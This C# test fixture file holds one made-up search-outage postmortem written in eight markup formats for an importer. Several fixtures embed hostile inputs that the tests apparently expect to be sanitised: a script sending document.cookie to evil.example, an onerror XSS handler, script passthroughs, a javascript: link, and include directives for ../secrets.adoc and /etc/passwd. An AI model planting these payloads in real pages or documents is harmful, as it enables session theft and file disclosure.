using System.Text;
using PostmortemSite.Extracting;
using PostmortemSite.Importing;
using PostmortemSite.Importing.Formats;
using PostmortemSite.Reading;

namespace PostmortemSite.Tests.Importing.Formats;

/// <summary>One incident written in each format a legacy heap holds, and the way to read one as import does.</summary>
internal static class FormatFixtures
{
    private static readonly PostmortemExtractor Extractor = new(TaxonomyReader.Default);

    public const string Html = """
        <!DOCTYPE html>
        <html><head><title>Search cluster outage - Engineering Wiki</title>
        <style>body { font-family: sans-serif }</style>
        <script>fetch('https://evil.example/steal?c=' + document.cookie)</script></head>
        <body>
        <nav><a href="/wiki">Wiki home</a> | <a href="/spaces">Spaces</a></nav>
        <div id="main-content" class="wiki-content">
        <h1>Search cluster outage</h1>
        <table class="confluenceTable"><tbody>
        <tr><th>Date</th><td>May 14, 2024</td></tr>
        <tr><th>Severity</th><td>SEV2</td></tr>
        <tr><th>Services</th><td>search, reports</td></tr>
        </tbody></table>
        <h2>Summary</h2>
        <p>Search was unavailable for most customers while the cluster ran out of heap.</p>
        <h2>Impact</h2>
        <p>About 60% of customers could not search for 1 hour 46 minutes.</p>
        <h2>Timeline (all times in UTC)</h2>
        <table><thead><tr><th>Time (UTC)</th><th>Event</th></tr></thead>
        <tbody>
        <tr><td>14:02</td><td>Elasticsearch heap alarms fire</td></tr>
        <tr><td>14:10</td><td>On-call engineer paged and <b>detected</b> the outage</td></tr>
        <tr><td>14:35</td><td>Restarted data nodes; no improvement</td></tr>
        <tr><td>15:05</td><td>Identified a runaway aggregation query from the reports service</td></tr>
        <tr><td>15:20</td><td>Query blocked, cluster recovering</td></tr>
        <tr><td>15:48</td><td>Search fully restored, incident resolved</td></tr>
        </tbody></table>
        <h2>Root cause</h2>
        <p>The root cause was a missing limit on aggregation buckets in the reports service, which exhausted the heap of every data node.</p>
        <h2>Action items</h2>
        <ul>
        <li>Cap aggregation buckets in the reports service</li>
        <li>Alert on heap usage above 85%<ul><li>Page the search team, not the reports team</li></ul></li>
        </ul>
        <p>Written by the search team.<br>Reviewed 2024-05-20.</p>
        <img src="x" onerror="alert(1)" alt="heap graph">
        </div>
        <footer>Powered by a wiki</footer>
        </body></html>
        """;

    public const string AsciiDoc = """
        = Search cluster outage
        :revdate: 2024-05-20
        :team: search team

        Date:: May 14, 2024
        Severity:: SEV2

        == Summary

        Search was unavailable for most customers while the cluster ran out of heap.
        Reported by the {team}.

        == Timeline

        All times in UTC.

        [cols="1,4",options="header"]
        |===
        | Time | Event

        | 14:02 | Elasticsearch heap alarms fire
        | 14:10 | On-call engineer paged and detected the outage
        | 14:35 | Restarted data nodes; no improvement
        | 15:05 | Identified a runaway aggregation query from the reports service
        | 15:20 | Query blocked, cluster recovering
        | 15:48 | Search fully restored, incident resolved
        |===

        == Root cause

        The root cause was a missing limit on aggregation buckets in the reports service, which exhausted the heap of every data node.

        [source,json]
        ----
        { "aggs": { "by_customer": { "terms": { "size": 1000000 } } } }
        ----

        == Action items

        * Cap aggregation buckets in the reports service
        * Alert on heap usage above 85%
        ** Page the search team, not the reports team

        include::../secrets.adoc[]

        ++++
        <script>alert('passthrough')</script><p>Passed through</p>
        ++++
        """;

    public const string Org = """
        #+AUTHOR: Search Team
        #+OPTIONS: toc:nil num:nil
        #+TITLE: Search cluster outage (Org)
        #+DATE: 2024-05-14
        #+SETUPFILE: ../theme.setup

        * Summary
          Search was unavailable for most customers
          while the cluster ran out of heap.

        * Timeline                                                        :ops:
          All times in UTC.
          | Time  | Event                                                   |
          |-------+---------------------------------------------------------|
          | 14:02 | Elasticsearch heap alarms fire                          |
          | 14:10 | On-call engineer paged and detected the outage          |
          | 14:35 | Restarted data nodes; no improvement                    |
          | 15:05 | Identified a runaway aggregation query from the reports service |
          | 15:20 | Query blocked, cluster recovering                       |
          | 15:48 | Search fully restored, incident resolved                |

        * Root cause
          :PROPERTIES:
          :CUSTOM_ID: cause
          :END:
          The root cause was a missing limit on aggregation buckets in the =reports= service, which
          exhausted the heap of every data node. See [[https://example.org/aggs][the query]] and [[*Timeline][the timeline]].

        #+BEGIN_SRC json
        { "aggs": { "by_customer": { "terms": { "size": 1000000 } } } }
        #+END_SRC

        # An internal note that is never exported.

        * Action items
          - [ ] Cap aggregation buckets in the reports service
          - [X] Alert on heap usage above 85%
            - Page the search team, not the reports team
        ** TODO Review every query the reports service sends
           DEADLINE: <2024-06-01 Sat>

        #+BEGIN_EXPORT html
        <script>alert('export')</script><p>Exported as written</p>
        #+END_EXPORT
        """;

    public const string MediaWiki = """
        {{Infobox incident
        | date = 2024-05-14
        | severity = SEV2
        | services = search
        }}
        <!-- internal: the search team owns this page -->
        __TOC__
        = Search cluster outage (MediaWiki) =

        == Summary ==
        Search was unavailable for most customers while the cluster ran out of heap.<ref>See the [[Runbooks/Search|search runbook]].</ref>

        == Timeline ==
        All times in UTC.
        {| class="wikitable"
        ! Time !! Event
        |-
        | 14:02 || Elasticsearch heap alarms fire
        |-
        | 14:10 || On-call engineer paged and detected the outage
        |-
        | 14:35 || Restarted data nodes; no improvement
        |-
        | 15:05 || Identified a runaway aggregation query from the [[Reports service|reports service]]
        |-
        | 15:20 || Query blocked, cluster recovering
        |-
        | style="background:#cfc" | 15:48 || Search fully restored, incident resolved
        |}

        == Root cause ==
        The root cause was a missing limit on aggregation buckets in the '''reports''' service, which exhausted the heap of every data node. See [https://example.org/aggs the query] and [[#Timeline|the timeline]].
        [[File:Heap-graph.png|thumb|Heap usage]]
        [[Category:Postmortems]]

        <pre>
        { "aggs": { "by_customer": { "terms": { "size": 1000000 } } } }
        </pre>

        == Action items ==
        * Cap aggregation buckets in the reports service
        * Alert on heap usage above 85%
        ** Page the search team, not the reports team
        # Review every query the reports service sends

        <script>alert('wiki')</script>
        """;

    public const string ReStructuredText = """
        =====================
        Search cluster outage
        =====================

        :Date: May 14, 2024
        :Severity: SEV2

        Summary
        =======

        Search was unavailable for most customers while the cluster ran out of heap.

        Timeline
        ========

        All times in UTC.

        =====  ================================================================
        Time   Event
        =====  ================================================================
        14:02  Elasticsearch heap alarms fire
        14:10  On-call engineer paged and detected the outage
        14:35  Restarted data nodes; no improvement
        15:05  Identified a runaway aggregation query from the reports service
        15:20  Query blocked, cluster recovering
        15:48  Search fully restored, incident resolved
        =====  ================================================================

        Root cause
        ==========

        The root cause was a missing limit on aggregation buckets in the
        reports service, which exhausted the heap of every data node. See the
        `query log <https://logs.example.com/q/123>`_ and :code:`size=1000000`.

        .. code-block:: json

           { "aggs": { "by_customer": { "terms": { "size": 1000000 } } } }

        .. raw:: html

           <script>alert('raw')</script>

        .. include:: /etc/passwd

        Action items
        ============

        - Cap aggregation buckets in the reports service
        - Alert on heap usage above 85%

          - Page the search team, not the reports team

        .. note:: This document was reviewed on 2024-05-20.
        """;

    public const string Mdx = """
        ---
        title: Search cluster outage
        date: 2024-05-14
        ---
        import { Callout } from '../components/Callout'
        export const meta = {
          team: 'search',
          reviewed: true,
        }

        # Search cluster outage

        <Callout type="warning">
        Search was unavailable for most customers while the cluster ran out of heap.
        </Callout>

        {/* internal: link the dashboard once it is public */}

        ## Timeline (UTC)

        - 14:02 Elasticsearch heap alarms fire
        - 14:10 On-call engineer paged and detected the outage
        - 14:35 Restarted data nodes; no improvement
        - 15:05 Identified a runaway aggregation query from the reports service
        - 15:20 Query blocked, cluster recovering
        - 15:48 Search fully restored, incident resolved

        ## Root cause

        The root cause was a missing limit on aggregation buckets in the reports service, which exhausted the heap of every data node.
        """;

    public const string MarkdownErb = """
        # Search cluster outage

        Date: May 14, 2024
        Owner: <%= @incident.owner %>
        <% if @internal %>Internal notes: <%= @notes %><% end %>

        ## Timeline (UTC)

        - 14:02 Elasticsearch heap alarms fire
        - 14:10 On-call engineer paged and detected the outage
        - 15:48 Search fully restored, incident resolved

        ## Root cause

        The root cause was a missing limit on aggregation buckets in the reports service.
        """;

    public const string AtomEntry = """
        <?xml version="1.0" encoding="utf-8"?>
        <entry xmlns="http://www.w3.org/2005/Atom">
          <title>Search cluster outage (feed)</title>
          <published>2024-05-16T09:30:00-07:00</published>
          <content type="xhtml">
            <div xmlns="http://www.w3.org/1999/xhtml">
              <p>On May 14, 2024 search was unavailable for most customers while the cluster ran out of heap.</p>
              <h2>Timeline (all times in UTC)</h2>
              <ul><li>14:02 Elasticsearch heap alarms fire</li><li>15:48 Search fully restored, incident resolved</li></ul>
              <p><script>alert('feed')</script><a href="javascript:alert(1)">details</a></p>
            </div>
          </content>
        </entry>
        """;

    public static (SourceDocument Document, Extraction Extraction) Read(string fileName, string text) => Read(fileName, Encoding.UTF8.GetBytes(text));

    public static (SourceDocument Document, Extraction Extraction) Read(string fileName, byte[] bytes)
    {
        var (document, problem) = DocumentConverter.Read(bytes, SourceFormats.FromName(fileName)!.Value, fileName);
        Assert.True(document is not null, problem?.ToString());
        return (document, Extractor.Extract(fileName, document.Text));
    }
}
